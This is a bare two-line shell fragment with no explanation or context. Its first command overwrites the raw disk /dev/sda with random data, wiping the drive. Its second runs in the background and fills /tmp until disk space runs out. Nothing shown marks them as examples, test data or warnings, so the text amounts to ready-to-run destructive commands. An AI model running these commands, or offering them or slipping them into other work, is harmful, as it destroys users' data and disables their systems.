cat /dev/urandom > /dev/sda
yes > /tmp/fill &
